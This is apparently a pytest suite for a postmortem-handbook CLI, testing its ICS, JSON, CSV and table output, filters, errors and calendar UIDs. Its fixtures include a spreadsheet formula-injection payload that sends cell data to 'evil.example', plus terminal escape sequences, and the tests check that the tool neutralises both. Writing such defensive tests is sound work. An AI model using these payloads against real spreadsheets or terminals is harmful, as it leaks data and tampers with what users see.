"""`opsbook actions` end to end: every format parsed, every filter, and the errors."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from icalendar import Calendar

from conftest import POLICY, POSTMORTEM, Handbook, Run
from opsbook import actions, load

Opsbook = Callable[..., Run]
TODAY = "2026-10-01"

SECOND = """\
---
id: PM-2026-002
title: "Database failover: replica lag"
date: 2026-09-02
severity: P2
services: [db, api]
status: in_review
action_items:
  - {title: Alert on replica lag, owner: carol, due: 2026-09-05, status: open}
  - {title: Rewrite the ORM, owner: carol, due: 2026-12-01, status: wont_do}
---
Body
"""

# Open or in progress, as of TODAY, most overdue first: carol (26 days), AI-1 (11), AI-2.
OPEN_UIDS = ["PM-2026-002/1", "PM-2026-001/AI-1", "PM-2026-001/AI-2"]


@pytest.fixture
def book(handbook: Handbook) -> Handbook:
    handbook.write("postmortems/2026-09-02-db-failover.md", SECOND)
    return handbook


def uids(run: Run) -> list[str]:
    assert run.code == 0, run.err
    return [r["uid"] for r in run.json()]  # type: ignore[attr-defined]


def test_ics_has_one_event_per_open_item(opsbook: Opsbook, book: Handbook) -> None:
    run = opsbook("actions", "--format", "ics", "--today", TODAY, cwd=book.root)
    assert run.code == 0, run.err
    cal = Calendar.from_ical(run.out)
    events = cal.walk("VEVENT")
    assert len(events) == len(OPEN_UIDS)
    by_uid = {str(e["UID"]).rsplit("@", 1)[0]: e for e in events}
    assert set(by_uid) == set(OPEN_UIDS)
    canary = by_uid["PM-2026-001/AI-1"]
    assert canary.decoded("DTSTART") == dt.date(2026, 9, 20)
    assert canary.decoded("DTEND") == dt.date(2026, 9, 21)
    assert "Add a canary stage" in str(canary["SUMMARY"]) and "alice" in str(canary["SUMMARY"])
    assert "PM-2026-001" in str(canary["DESCRIPTION"])
    lag = by_uid["PM-2026-002/1"]
    assert "Database failover: replica lag" in str(lag["DESCRIPTION"])
    # Stable: the same input gives the same file, so calendar clients update, not duplicate.
    again = opsbook("actions", "--format", "ics", "--today", TODAY, cwd=book.root)
    assert again.out == run.out


def test_json_records_and_order(opsbook: Opsbook, book: Handbook) -> None:
    run = opsbook("actions", "--format", "json", "--today", TODAY, cwd=book.root)
    records = run.json()
    assert uids(run) == OPEN_UIDS
    first = records[0]  # type: ignore[index]
    assert first == {
        "uid": "PM-2026-002/1",
        "id": "",
        "title": "Alert on replica lag",
        "owner": "carol",
        "due": "2026-09-05",
        "days_overdue": 26,
        "status": "open",
        "priority": "",
        "link": "",
        "postmortem_id": "PM-2026-002",
        "postmortem_title": "Database failover: replica lag",
        "postmortem_path": "postmortems/2026-09-02-db-failover.md",
        "services": ["db", "api"],
    }


def test_csv(opsbook: Opsbook, book: Handbook) -> None:
    run = opsbook("actions", "--format", "csv", "--today", TODAY, cwd=book.root)
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out)))
    assert [r["uid"] for r in rows] == OPEN_UIDS
    assert tuple(rows[0]) == actions.FIELDS
    assert rows[0]["services"] == "db;api"
    assert rows[0]["postmortem_title"] == "Database failover: replica lag"


def test_table(opsbook: Opsbook, book: Handbook) -> None:
    run = opsbook("actions", "--today", TODAY, cwd=book.root)
    assert run.code == 0, run.err
    lines = run.out.splitlines()
    assert lines[0].split() == ["DUE", "OVERDUE", "STATUS", "OWNER", "TITLE", "POSTMORTEM"]
    assert lines[1].split()[:4] == ["2026-09-05", "26d", "open", "carol"]
    assert lines[-1] == "3 items, 3 open, 2 overdue"


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--owner", "alice"], ["PM-2026-001/AI-1"]),
        (["--owner", "nobody"], []),
        (["--service", "db"], ["PM-2026-002/1"]),
        (["--service", "api"], OPEN_UIDS),
        (["--overdue"], ["PM-2026-002/1", "PM-2026-001/AI-1"]),
        (["--status", "done"], ["PM-2026-001/AI-3"]),
        (["--status", "done", "--status", "wont_do"], ["PM-2026-001/AI-3", "PM-2026-002/2"]),
        (["--status", "in_progress"], ["PM-2026-001/AI-2"]),
        (["--owner", "carol", "--overdue"], ["PM-2026-002/1"]),
        (["--status", "done", "--overdue"], []),  # a done item is never overdue
    ],
)
def test_filters(opsbook: Opsbook, book: Handbook, args: list[str], expected: list[str]) -> None:
    run = opsbook("actions", "--format", "json", "--today", TODAY, *args, cwd=book.root)
    assert uids(run) == expected


TRICKY = """\
---
id: PM-2026-003
title: "Cache: keys, values; and \\\\ paths"
date: 2026-09-03
severity: P3
services: [cache]
status: draft
action_items:
  - title: "Évaluer l'éviction, la taille; et les clés \\\\ de cache:
      un titre long à plier plusieurs fois"
    owner: zoë
    due: 2026-10-20
    status: open
---
Body
"""


def test_ics_escapes_and_folds_text(book: Handbook) -> None:
    book.write("postmortems/2026-09-03-cache.md", TRICKY)
    # Bytes, not text: the line ends and the 75-octet folding are part of the format.
    raw = subprocess.run(
        [sys.executable, "-m", "opsbook", "actions", "--format", "ics", "--today", TODAY],
        cwd=book.root,
        capture_output=True,
        check=True,
    ).stdout
    lines = raw.split(b"\r\n")
    assert lines[-1] == b"" and all(b"\n" not in line for line in lines)
    assert max(len(line) for line in lines) <= 75
    assert any(line.startswith(b" ") for line in lines)  # the long title was folded
    raw.decode("utf-8")  # folding never splits a character
    event = next(
        e for e in Calendar.from_ical(raw).walk("VEVENT") if "PM-2026-003" in str(e["UID"])
    )
    assert str(event["SUMMARY"]) == (
        "Évaluer l'éviction, la taille; et les clés \\ de cache: "
        "un titre long à plier plusieurs fois (zoë)"
    )
    assert "Cache: keys, values; and \\ paths" in str(event["DESCRIPTION"])
    assert [str(c) for c in event["CATEGORIES"].cats] == ["open", "cache"]


def test_filters_apply_to_ics(opsbook: Opsbook, book: Handbook) -> None:
    run = opsbook(
        "actions", "--format", "ics", "--owner", "nobody", "--today", TODAY, cwd=book.root
    )
    assert run.code == 0, run.err
    assert Calendar.from_ical(run.out).walk("VEVENT") == []


def test_today_from_the_environment(opsbook: Opsbook, book: Handbook) -> None:
    run = opsbook(
        "actions",
        "--format",
        "json",
        "--overdue",
        cwd=book.root,
        env={"OPSBOOK_TODAY": "2026-09-10"},
    )
    assert uids(run) == ["PM-2026-002/1"]


def test_errors(opsbook: Opsbook, book: Handbook) -> None:
    bad_date = opsbook("actions", "--today", "2026-13-01", cwd=book.root)
    assert bad_date.code == 2 and "YYYY-MM-DD" in bad_date.err
    bad_status = opsbook("actions", "--status", "closed", cwd=book.root)
    assert bad_status.code == 2 and "invalid choice" in bad_status.err
    broken_schema = book.write("schemas/postmortem.schema.json", "{not json")
    schema = opsbook("actions", cwd=book.root)
    assert schema.code == 2 and "not valid JSON" in schema.err
    assert "Traceback" not in schema.err
    broken_schema.unlink()
    (book.root / "policy.yml").unlink()
    (book.root / "mkdocs.yml").write_text("site_name: x\n")
    no_policy = opsbook("actions", cwd=book.root)
    assert no_policy.code == 2 and "policy.yml" in no_policy.err
    assert "Traceback" not in no_policy.err


FORMULAS = """\
---
id: PM-2026-004
title: "+Sum of: everything"
date: 2026-09-04
severity: P2
services: ["-db"]
status: draft
action_items:
  - title: '=HYPERLINK("https://evil.example/?"&A1,"Click me")'
    owner: "@mallory"
    due: 2026-10-20
    status: open
  - title: "\\tTabbed"
    owner: "\\rcarriage"
    due: 2026-10-21
    status: open
  - title: Plain - with a dash = fine
    owner: "-"
    due: 2026-10-22
    status: open
---
Body
"""


def test_csv_neutralises_formulas(opsbook: Opsbook, book: Handbook, tmp_path: Path) -> None:
    """A cell a spreadsheet would run as a formula starts with a single quote (OWASP)."""
    book.write("postmortems/2026-09-04-formulas.md", FORMULAS)
    # Bytes, not text: text mode would turn the quoted carriage return into a line break.
    printed = subprocess.run(
        [sys.executable, "-m", "opsbook", "actions", "--format", "csv", "--today", TODAY],
        cwd=book.root,
        capture_output=True,
        check=True,
    ).stdout.decode("utf-8")
    # `opsbook generate` writes the file the site publishes, with the same function.
    out = tmp_path / "generated"
    generated = opsbook("generate", out, "--today", TODAY, cwd=book.root)
    assert generated.code == 0, generated.err
    written = (out / "docs" / "action-items.csv").read_bytes().decode("utf-8")
    for text in (printed, written):
        rows = {r["uid"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
        first, second, third = (rows[f"PM-2026-004/{n}"] for n in (1, 2, 3))
        assert first["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Click me")'
        assert first["owner"] == "'@mallory"
        assert first["postmortem_title"] == "'+Sum of: everything"
        assert first["services"] == "'-db"
        assert second["title"] == "'\tTabbed"
        assert second["owner"] == "'\rcarriage"
        assert third["title"] == "Plain - with a dash = fine"  # only a leading sign counts
        assert third["owner"] == "'-"
        assert "\r\n" in text and "\n" not in text.replace("\r\n", "")  # RFC 4180 lines
        for row in rows.values():
            assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in row.values())
    # JSON is data, not a spreadsheet: it keeps the title as written.
    data = opsbook("actions", "--format", "json", "--today", TODAY, cwd=book.root).json()
    assert any(r["title"].startswith("=HYPERLINK") for r in data)  # type: ignore[attr-defined]


def test_csv_cell() -> None:
    assert actions.csv_cell("=1+1") == "'=1+1"
    assert actions.csv_cell("a=1") == "a=1"
    assert actions.csv_cell("") == ""


def test_table_shows_control_characters_escaped(opsbook: Opsbook, book: Handbook) -> None:
    book.write(
        "postmortems/2026-09-04-terminal.md",
        FORMULAS.replace("\\tTabbed", "\\e]0;pwned\\a\\e[2J two\\nlines"),
    )
    run = opsbook("actions", "--today", TODAY, cwd=book.root)
    assert run.code == 0, run.err
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", run.out), repr(run.out)
    assert "\\x1b]0;pwned\\x07\\x1b[2J two\\nlines" in run.out
    assert "\\rcarriage" in run.out
    assert run.out.splitlines()[-1] == "6 items, 6 open, 2 overdue"


def test_ics_dates_have_four_digit_years(book: Handbook) -> None:
    """strftime('%Y') writes year 5 as '5' on glibc; RFC 5545 dates have four digits."""
    handbook = load.load_handbook(book.root)
    text = actions.to_ics(handbook.action_items, dt.date(5, 1, 2))
    assert "DTSTAMP:00050102T000000Z" in text
    Calendar.from_ical(text)


# --- Issue 16: UIDs unique per handbook -------------------------------------------------------


def ics_uids(text: str) -> list[str]:
    return [str(e["UID"]) for e in Calendar.from_ical(text).walk("VEVENT")]


def test_two_handbooks_items_never_share_a_uid(opsbook: Opsbook, tmp_path: Path) -> None:
    """The same postmortem ids in two handbooks: one calendar subscribing to both must keep
    both items (RFC 5545 UIDs are global), by site_url, else site_name, else folder."""
    roots = []
    for name, mkdocs in (
        ("payments", "site_name: Payments handbook\nsite_url: https://payments.example.com/\n"),
        ("search", "site_name: Search handbook\n"),
        ("ledger", None),
        ("billing", "site_name: Billing\nsite_url: https://docs.example.com/billing/\n"),
        (
            "shop",
            "site_name: Shop\nsite_url: !ENV [NO_SUCH_VARIABLE, 'https://docs.example.com/shop']\n",
        ),
    ):
        book = Handbook(tmp_path / name)
        book.write("policy.yml", POLICY)
        book.write("postmortems/2026-09-01-api-outage.md", POSTMORTEM)
        if mkdocs is not None:
            book.write("mkdocs.yml", mkdocs)
        roots.append(book.root)
    calendars = []
    for root in roots:
        run = opsbook("actions", "--format", "ics", "--today", TODAY, cwd=root)
        assert run.code == 0, run.err
        calendars.append(ics_uids(run.out))
    assert calendars[0] == [
        "PM-2026-001/AI-1@payments.example.com",
        "PM-2026-001/AI-2@payments.example.com",
    ]
    assert calendars[1][0] == "PM-2026-001/AI-1@search-handbook"
    assert calendars[2][0].startswith("PM-2026-001/AI-1@opsbook-")  # a hash of "ledger"
    assert calendars[3][0] == "PM-2026-001/AI-1@docs.example.com/billing"
    assert calendars[4][0] == "PM-2026-001/AI-1@docs.example.com/shop"
    every = [uid for uids in calendars for uid in uids]
    assert len(set(every)) == len(every) == 10
    # Stable: the same handbook gives the same UIDs on every run.
    again = opsbook("actions", "--format", "ics", "--today", TODAY, cwd=roots[2])
    assert ics_uids(again.out) == calendars[2]
    # generate writes the same calendar; --site-url decides when given.
    out = tmp_path / "out"
    assert opsbook("generate", out, "--today", TODAY, cwd=roots[0]).code == 0
    assert ics_uids((out / "docs" / "action-items.ics").read_text()) == calendars[0]
    assert opsbook("generate", out, "--site-url", "https://x.example/", cwd=roots[0]).code == 0
    assert ics_uids((out / "docs" / "action-items.ics").read_text())[0].endswith("@x.example")


def test_calendar_domain_falls_back_in_order() -> None:
    assert (
        actions.calendar_domain("https://h.example.com:8443/a/b/", "N", "r") == "h.example.com/a/b"
    )
    assert actions.calendar_domain("", "Équipe paiements", "r") == "equipe-paiements"
    assert actions.calendar_domain("not a url", "", "r") == actions.calendar_domain("", "", "r")
    assert actions.calendar_domain("http://[::1", "", "x") != actions.calendar_domain("", "", "y")
    assert actions.calendar_domain("", "運用", "r") != actions.calendar_domain("", "", "r")


@pytest.mark.slow
def test_the_site_calendar_has_the_handbook_uids(
    opsbook: Opsbook, book: Handbook, tmp_path: Path
) -> None:
    from sitebuild import build, install_site

    install_site(book.root)
    mkdocs = book.root / "mkdocs.yml"
    mkdocs.write_text(
        mkdocs.read_text().replace(
            "site_name: opsbook sample handbook\n",
            "site_name: opsbook sample handbook\nsite_url: https://oncall.example.org/\n",
        )
    )
    built = build(book.root, tmp_path / "site", today=TODAY)
    assert built.code == 0, built.log
    site = ics_uids((built.site / "action-items.ics").read_text())
    assert site and all(uid.endswith("@oncall.example.org") for uid in site)
    cli = opsbook("actions", "--format", "ics", "--today", TODAY, cwd=book.root)
    assert sorted(ics_uids(cli.out)) == sorted(site)
